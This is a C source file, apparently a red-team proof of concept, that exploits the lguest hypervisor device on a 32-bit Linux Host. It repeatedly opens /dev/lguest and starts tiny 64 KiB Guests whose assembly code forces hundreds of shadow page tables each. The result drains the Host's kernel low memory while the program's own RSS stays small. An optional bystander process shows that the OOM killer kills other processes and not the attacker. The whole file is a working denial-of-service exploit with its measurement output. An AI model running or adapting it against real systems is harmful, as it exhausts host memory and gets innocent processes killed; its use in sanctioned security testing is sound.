/*
 * lgshadowhog (red team, third round): max_shadow_tables bounds ONE Guest's shadow page tables
 * (256 + 4 per 4 MiB of its memory), but nothing bounds how many Guests one process may have,
 * and the bound is mostly the 256, whatever the Guest's size.  So a 64 KiB Guest may hold
 * 260 shadow tables: a megabyte of the Host's kernel memory (low memory, on this 32-bit Host)
 * for 64 KiB of its Launcher's.
 *
 * Each round opens a new /dev/lguest and sets up a 64 KiB Guest over the same mapping (all
 * Guests share it), whose kernel maps one page table under 259 page-directory entries and reads
 * one word through each: 259 shadow page tables, plus the kernel's.  It notifies and is never
 * run again; its file stays open.  After ROUNDS rounds, about ROUNDS MiB of the Host's memory
 * are gone while the program's RSS is a few hundred kilobytes and it has pinned 64 KiB.
 *
 * With BYSTANDER-MIB, a child first takes that much ordinary memory and waits: the rounds go on
 * until the OOM killer has killed it (it, not this program: the OOM killer ranks by RSS), or
 * ROUNDS are done.
 *
 * Usage: lgshadowhog ROUNDS [HOLD-SECONDS [BYSTANDER-MIB]]
 */
#include <sys/wait.h>
#include <sys/prctl.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <unistd.h>
#include "tinyguest.h"


#define MEM		(64u << 10)
#define TABLES		259

extern const unsigned char guest_code[], guest_code_end[];
asm(".pushsection .rodata\n"
    ".code32\n"
    "guest_code:\n"
    TINY_GUEST_INIT				/* LHCALL_INIT, lguest_data at 0x3000 */
    "\txorl %esi, %esi\n"
    "\tmovl $259, %ecx\n"
    "1:\tmovb (%esi), %dl\n"		/* one word per 4 MiB: one shadow table each */
    "\taddl $0x400000, %esi\n"
    "\tdecl %ecx\n"
    "\tjnz 1b\n"
    "\tmovl $17, %eax\n"		/* LHCALL_NOTIFY: done */
    "\txorl %ebx, %ebx\n"
    "\txorl %ecx, %ecx\n"
    "\tint $0x1f\n"
    "\tjmp .\n"
    "guest_code_end:\n"
    ".popsection");

/* The number after KEY in the /proc file PATH, or -1. */
static long proc_value(const char *path, const char *key)
{
	char line[128];
	long v = -1;
	FILE *f = fopen(path, "r");

	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, key, strlen(key)))
			v = atol(line + strlen(key));
	if (f)
		fclose(f);
	return v;
}

static long meminfo(const char *key)
{
	return proc_value("/proc/meminfo", key);
}

static long status(const char *key)
{
	return proc_value("/proc/self/status", key);
}

int main(int argc, char *argv[])
{
	struct lguest_init_request req = { .request = LHREQ_INITIALIZE };
	struct rlimit lock = { 65536, 65536 }, nofile = { 1 << 16, 1 << 16 };
	struct lguest_event ev;
	unsigned int rounds = argc > 1 ? (unsigned int)atoi(argv[1]) : 8, done = 0, w, k;
	int hold = argc > 2 ? atoi(argv[2]) : 0, fd, wstatus;
	int bystander_mib = argc > 3 ? atoi(argv[3]) : 0;
	pid_t bystander = 0;
	long free0, free1, rss;
	unsigned char *mem;
	uint32_t *pgdir, *pt;

	setrlimit(RLIMIT_MEMLOCK, &lock);
	setrlimit(RLIMIT_NOFILE, &nofile);
	if (bystander_mib > 0) {
		bystander = fork();
		if (bystander == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);	/* and keep no pipe open */
			close(1);
			close(2);
			size_t size = (size_t)bystander_mib << 20, i;
			volatile char *b = malloc(size);

			for (i = 0; b && i < size; i += 4096)
				b[i] = 1;	/* volatile: really touched */
			for (;;)
				pause();
		}
		sleep(2);
	}
	fd = open("/dev/lguest", O_RDWR);
	mem = mmap(NULL, MEM, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (fd < 0 || mem == MAP_FAILED) {
		perror("lgshadowhog: /dev/lguest or memory");
		return 1;
	}
	pgdir = (uint32_t *)mem;
	pt = (uint32_t *)(mem + 0x1000);
	for (k = 0; k < MEM / 4096; k++)
		pt[k] = (k * 4096) | 3;	/* supervisor pages: SMAP forbids ring 1 to touch user ones */
	pgdir[0xC0000000u >> 22] = 0x1000 | 3;
	for (w = 0; w < TABLES; w++)
		pgdir[w] = 0x1000 | 3;
	memcpy(mem + 0x2000, guest_code, (size_t)(guest_code_end - guest_code));
	req.mem_base = (uint32_t)(unsigned long)mem;
	req.mem_pages = MEM / 4096;
	req.pgdir = 0;
	req.entry = 0xC0002000;
	free0 = meminfo("MemFree:");
	printf("lgshadowhog: MemFree %ld kB before; RLIMIT_MEMLOCK 64 kB\n", free0);
	fflush(stdout);
	while (done < rounds) {
		if (done > 0)
			fd = open("/dev/lguest", O_RDWR);
		if (fd < 0) {
			printf("lgshadowhog: open: %s\n", strerror(errno));
			break;
		}
		if (write(fd, &req, sizeof(req)) != sizeof(req)) {
			printf("lgshadowhog: LHREQ_INITIALIZE: %s\n", strerror(errno));
			break;
		}
		for (;;) {
			if (read(fd, &ev, sizeof(ev)) != sizeof(ev)) {
				printf("lgshadowhog: read: %s\n", strerror(errno));
				return 1;
			}
			if (ev.kind == LGUEST_EVENT_DIED) {
				printf("lgshadowhog: Guest %u died: %s\n", done, ev.message);
				fflush(stdout);
				if (bystander <= 0)
					return 1;
				break;
			}
			if (ev.kind == LGUEST_EVENT_NOTIFY)
				break;
		}
		done++;
		if (bystander > 0 && waitpid(bystander, &wstatus, WNOHANG) == bystander) {
			printf("lgshadowhog: round %u: the bystander (%d MiB) is gone: %s %d; "
			       "MemFree %ld kB, my VmRSS %ld kB\n", done, bystander_mib,
			       WIFSIGNALED(wstatus) ? "killed by signal" : "exited with",
			       WIFSIGNALED(wstatus) ? WTERMSIG(wstatus) : WEXITSTATUS(wstatus),
			       meminfo("MemFree:"), status("VmRSS:"));
			fflush(stdout);
			bystander = 0;
			break;
		}
		if (done % 50 == 0 || done == rounds) {
			printf("lgshadowhog: round %u (%u Guests): MemFree %ld kB, my VmRSS %ld kB, VmLck %ld kB, VmPin %ld kB\n",
			       done, done, meminfo("MemFree:"), status("VmRSS:"), status("VmLck:"),
			       status("VmPin:"));
			fflush(stdout);
		}
	}
	free1 = meminfo("MemFree:");
	rss = status("VmRSS:");
	printf("lgshadowhog: %u rounds: the Host lost %ld kB; my VmRSS is %ld kB: %ld kB held outside it\n",
	       done, free0 - free1, rss, free0 - free1 - rss);
	fflush(stdout);
	if (hold > 0)
		sleep((unsigned int)hold);
	if (bystander > 0) {
		printf("lgshadowhog: the bystander survived\n");
		kill(bystander, SIGKILL);
		waitpid(bystander, NULL, 0);
	}
	return 0;
}
